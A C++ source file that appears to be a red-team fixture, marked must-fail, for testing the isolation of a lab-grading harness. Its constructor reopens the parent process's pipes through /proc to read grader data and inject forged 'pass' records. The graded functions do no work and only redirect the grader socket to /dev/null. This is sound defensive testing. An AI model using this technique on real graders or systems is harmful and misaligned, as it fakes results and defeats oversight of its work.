// must-fail: CopyMatrix.Correctness CopyMatrix.OneThreadPerElement CopyMatrix.Speed
// must-fail: CopyMatrixStrided.Correctness CopyMatrixStrided.ElementsPerThread
// must-fail: CopyMatrixStrided.Speed
// redteam: descriptor replacement: dup2 over fds 3..10, reopen /proc/self/fd and /proc/<ppid>/fd
// isolation: the lab program's pipes through /proc/<ppid>/fd
//
// The old channel was "whatever fd 4 is": a static initializer could put its own pipe there. This
// one lists what the process inherited (/proc/self/fd), reopens every pipe of the lab program
// through /proc/<ppid>/fd/N, for reading (to steal what the grader sends) and for writing (a
// forged "started" line, a forged record, a forged launcher frame), puts /dev/null over fds
// 4..10 and closes them; at the first contract call it puts /dev/null over fd 3, the socket to
// the lab program, so the stand-in's answer goes nowhere. The copies compute nothing.
// Why it must fail: the launcher inherits only fds 0-3 (close_range after fork), its stdout is a
// memory file, and the lab program's pipes must not be reachable through /proc (another uid or
// PR_SET_DUMPABLE 0); a launcher that stops answering fails the call and every later one.
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <string>

#include "lab1.h"

namespace {

std::string link_of(const std::string& path) {
  char target[256] = {};
  const ssize_t n = readlink(path.c_str(), target, sizeof target - 1);
  return n > 0 ? std::string(target, static_cast<std::size_t>(n)) : std::string("?");
}

void put(int fd, const std::string& text) {
  if (write(fd, text.data(), text.size()) < 0) std::perror("replace: write");
}

// Every descriptor under /proc/<pid>/fd, with a callback for each.
template <class F>
void each_fd(const std::string& pid, F f) {
  const std::string folder = "/proc/" + pid + "/fd";
  DIR* dir = opendir(folder.c_str());
  if (!dir) return std::perror(("replace: " + folder).c_str());
  while (const dirent* entry = readdir(dir)) {
    if (entry->d_name[0] == '.') continue;
    f(folder + "/" + entry->d_name, link_of(folder + "/" + entry->d_name));
  }
  closedir(dir);
}

__attribute__((constructor)) void replace_descriptors() {
  each_fd("self", [](const std::string& path, const std::string& target) {
    std::fprintf(stderr, "replace: inherited %s -> %s\n", path.c_str(), target.c_str());
  });
  const std::string record =
      "{\"nonce\":\"\",\"started\":\"CopyMatrix.Correctness\"}\n"
      "{\"nonce\":\"\",\"record\":{\"schema\":1,\"lab\":\"lab1\",\"check\":"
      "\"CopyMatrix.Correctness\",\"kind\":\"correctness\",\"verdict\":\"pass\",\"fraction\":1}}\n";
  const std::string frame = std::string("\x0A\x00\x00\x00\x81\xA3ops\x91\x81\xA1k\xA0", 14);
  each_fd(std::to_string(getppid()), [&](const std::string& path, const std::string& target) {
    std::fprintf(stderr, "replace: parent's %s -> %s\n", path.c_str(), target.c_str());
    if (target.rfind("pipe:", 0) != 0 && target.rfind("socket:", 0) != 0) return;
    const int reader = open(path.c_str(), O_RDONLY | O_NONBLOCK);
    char stolen[4096];
    const ssize_t n = reader >= 0 ? read(reader, stolen, sizeof stolen) : -1;
    if (n > 0) std::fprintf(stderr, "replace: stole %.*s\n", static_cast<int>(n), stolen);
    const int writer = open(path.c_str(), O_WRONLY | O_NONBLOCK);
    if (writer < 0) return std::perror(("replace: open " + path).c_str());
    put(writer, record);
    put(writer, frame);
  });
  const int null = open("/dev/null", O_RDWR);
  for (int fd = 4; fd <= 10; ++fd) {
    if (fd != null) dup2(null, fd);
    close(fd);
  }
}

void cut_the_socket() {
  const int null = open("/dev/null", O_RDWR);
  dup2(null, 3);  // the stand-in writes its answer to /dev/null and reads EOF next
  close(null);
}

}  // namespace

void copy_matrix(const float*, float*, int, int) { cut_the_socket(); }
void copy_matrix_strided(const float*, float*, int, int) { cut_the_socket(); }
